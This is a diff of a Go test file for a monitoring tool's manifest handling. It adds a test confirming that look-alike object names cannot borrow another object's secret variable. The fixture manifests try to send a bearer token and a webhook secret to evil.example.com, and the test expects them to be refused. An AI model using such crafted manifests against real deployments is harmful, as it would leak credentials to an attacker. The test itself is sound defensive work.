@@ -357,10 +357,12 @@ func TestReviewFixes(t *testing.T) {
 
 func TestExportNamesEachSecretOnce(t *testing.T) {
 	s := storetest.SQLite(t)
+	// Literal secrets: a reference to a variable two objects' names share is refused
+	// (TestReferencesOfLookAlikeNames), but export must still name each secret once.
 	doc := "version: 1\nchannels:\n" +
-		"  - {name: Ops, type: webhook, config: {url: 'https://a.example.com/', secret: '${WATCHDOG_CHANNEL_OPS_SECRET}'}}\n" +
-		"  - {name: ops, type: webhook, config: {url: 'https://b.example.com/', secret: '${WATCHDOG_CHANNEL_OPS_SECRET_2}'}}\n"
-	apply(t, s, doc, opts(map[string]string{"WATCHDOG_CHANNEL_OPS_SECRET": "first", "WATCHDOG_CHANNEL_OPS_SECRET_2": "second"}))
+		"  - {name: Ops, type: webhook, config: {url: 'https://a.example.com/', secret: 'first'}}\n" +
+		"  - {name: ops, type: webhook, config: {url: 'https://b.example.com/', secret: 'second'}}\n"
+	apply(t, s, doc, opts(nil))
 	_, names, err := manifest.Export(context.Background(), s)
 	require.NoError(t, err)
 	assert.ElementsMatch(t, []string{"WATCHDOG_CHANNEL_OPS_SECRET", "WATCHDOG_CHANNEL_OPS_SECRET_2"}, names)
@@ -511,4 +513,48 @@ func TestChannelRulesAreTheAPIs(t *testing.T) {
 			assert.Empty(t, channels)
 		})
 	}
+}
+
+// TestReferencesOfLookAlikeNames: EnvName folds "-", "." and the separator between an
+// object's name and its field into one "_", so another object can be named (or given a
+// header) to make the variable of a secret that is not its own. Such a reference is
+// refused; the owner's own reference still reads its secret.
+func TestReferencesOfLookAlikeNames(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, s *store.Store) {
+		ctx := context.Background()
+		env := map[string]string{
+			"WATCHDOG_TARGET_PROD_API_AUTHORIZATION": "Bearer prod",
+			"WATCHDOG_CHANNEL_OPS_HEADERS_SECRET":    "ops-headers-secret",
+		}
+		owner := "version: 1\nchannels:\n  - name: ops-headers\n    type: webhook\n    config:\n      url: https://hooks.example.com/\n" +
+			"      secret: ${WATCHDOG_CHANNEL_OPS_HEADERS_SECRET}\n" +
+			"targets:\n  - name: prod-api\n    url: https://prod.example.com/\n    headers:\n      Authorization: ${WATCHDOG_TARGET_PROD_API_AUTHORIZATION}\n"
+		apply(t, s, owner, opts(env))
+		for _, tc := range []struct{ name, doc, path string }{
+			{"a shorter name and a longer header", "version: 1\ntargets:\n  - name: prod\n    url: https://evil.example.com/\n    headers:\n      Api-Authorization: ${WATCHDOG_TARGET_PROD_API_AUTHORIZATION}\n",
+				"targets[0].headers.Api-Authorization"},
+			{"a name with a dot for the dash", "version: 1\ntargets:\n  - name: prod.api\n    url: https://evil.example.com/\n    headers:\n      Authorization: ${WATCHDOG_TARGET_PROD_API_AUTHORIZATION}\n",
+				"targets[0].headers.Authorization"},
+			{"a channel named so", "version: 1\nchannels:\n  - name: ops\n    type: webhook\n    config:\n      url: https://evil.example.com/\n      headers:\n        Secret: ${WATCHDOG_CHANNEL_OPS_HEADERS_SECRET}\n",
+				"channels[0].config.headers.Secret"},
+			{"both in one document", owner + "  - name: prod\n    url: https://evil.example.com/\n    headers:\n      Api-Authorization: ${WATCHDOG_TARGET_PROD_API_AUTHORIZATION}\n",
+				"targets[0].headers.Authorization"},
+		} {
+			t.Run(tc.name, func(t *testing.T) {
+				_, err := parse(t, tc.doc).Apply(ctx, s, opts(env))
+				var le *manifest.LineError
+				require.True(t, errors.As(err, &le), "%v", err)
+				assert.Equal(t, tc.path, le.Path, "%v", err)
+				assert.Contains(t, le.Msg, "rename one of them")
+				assert.NotContains(t, err.Error(), "Bearer prod")
+				assert.NotContains(t, err.Error(), "ops-headers-secret")
+			})
+		}
+		all, err := s.AllTargets(ctx)
+		require.NoError(t, err)
+		require.Len(t, all, 1, "nothing applied")
+		assert.Equal(t, "Bearer prod", all[0].Headers["Authorization"], "the owner's reference still reads its secret")
+		r := apply(t, s, owner, opts(env))
+		assert.Equal(t, manifest.Unchanged, actions(r)["target prod-api"])
+	})
 }
